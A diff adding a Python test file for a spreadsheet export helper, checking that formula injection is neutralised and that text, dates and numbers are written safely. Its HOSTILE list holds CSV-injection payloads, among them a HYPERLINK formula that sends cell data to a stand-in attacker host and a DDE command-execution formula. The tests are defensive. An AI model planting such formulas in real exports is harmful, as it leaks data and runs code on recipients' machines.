@@ -1,0 +1,106 @@
+"""The export helper: formulas never run, control characters never break a file, types are kept."""
+
+import csv
+import datetime
+import decimal
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from ancrage.core import exports
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A3&B3,"Voir")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_a_leading_formula_character_is_quoted(value):
+    assert exports.safe_text(value).startswith("'")
+
+
+def test_ordinary_text_is_unchanged():
+    for value in ["Éloïse Gagnon", "Ti-Gus", "Marie-Ève (MJ)", "a=b", "1-800", ""]:
+        assert exports.safe_text(value) == value
+
+
+def test_control_characters_become_spaces_and_lines_stay():
+    assert exports.safe_text("Jean\x1bGuy\x00\x7f\x85") == "Jean Guy   "
+    assert exports.safe_text("ligne 1\nligne 2\ttab") == "ligne 1\nligne 2\ttab"
+
+
+def test_numbers_and_dates_keep_their_type_but_numeric_text_does_not_become_a_number():
+    assert exports.cell_value(-5) == -5
+    assert exports.cell_value(decimal.Decimal("12.50")) == decimal.Decimal("12.50")
+    assert exports.cell_value(datetime.date(2026, 12, 7)) == datetime.date(2026, 12, 7)
+    assert exports.cell_value("-5") == "'-5"
+    assert exports.cell_value(None) == ""
+    assert exports.cell_value(True) == "True"
+
+
+def test_aware_moments_are_written_in_montreal_time():
+    moment = datetime.datetime(2026, 12, 7, 5, 20, tzinfo=datetime.UTC)
+    assert exports.cell_value(moment) == datetime.datetime(2026, 12, 7, 0, 20)
+
+
+def _rows_of_csv(response):
+    text = response.content.decode("utf-8")
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text[1:])))
+
+
+def test_csv_response_quotes_every_hostile_value():
+    response, count = exports.table_response(
+        filename_stem="liste 2026/12", header=["=Nom", "Âge"], rows=[[v, 40] for v in HOSTILE]
+    )
+    assert count == len(HOSTILE)
+    assert response["Content-Disposition"] == 'attachment; filename="liste-2026-12.csv"'
+    rows = _rows_of_csv(response)
+    assert rows[0] == ["'=Nom", "Âge"]
+    for row, value in zip(rows[1:], HOSTILE, strict=True):
+        assert row[0].startswith("'")
+        assert row[0].lstrip("'").strip() == value.strip()
+
+
+def test_xlsx_response_writes_text_cells_never_formulas():
+    rows = [[v, 40, datetime.date(2026, 1, 2)] for v in [*HOSTILE, "Jean\x1bGuy"]]
+    response, count = exports.table_response(
+        filename_stem="liste",
+        header=["Nom", "Âge", "Le"],
+        rows=rows,
+        as_xlsx=True,
+        sheet_title="Liste: 2026/12",
+    )
+    assert count == len(rows)
+    book = load_workbook(io.BytesIO(response.content))
+    sheet = book.active
+    assert sheet.title == "Liste  2026 12"
+    cells = list(sheet.iter_rows(min_row=2))
+    for line in cells:
+        assert line[0].data_type == "s"
+        assert not str(line[0].value).startswith(("=", "+", "-", "@"))
+        assert line[1].value == 40
+        assert line[2].value == datetime.datetime(2026, 1, 2)
+    assert cells[-1][0].value == "Jean Guy"
+
+
+def test_no_other_module_writes_csv_or_xlsx():
+    """Tomorrow's exports too: only the helper may hold a CSV writer or a workbook."""
+    import pathlib
+
+    root = pathlib.Path(exports.__file__).resolve().parents[1]
+    offenders = []
+    for path in root.rglob("*.py"):
+        if "tests" in path.parts or "migrations" in path.parts or path.name == "exports.py":
+            continue
+        text = path.read_text(encoding="utf-8")
+        if any(marker in text for marker in ("csv.writer", "csv.DictWriter", "openpyxl", "xlsxwriter")):
+            offenders.append(str(path.relative_to(root)))
+    assert offenders == []
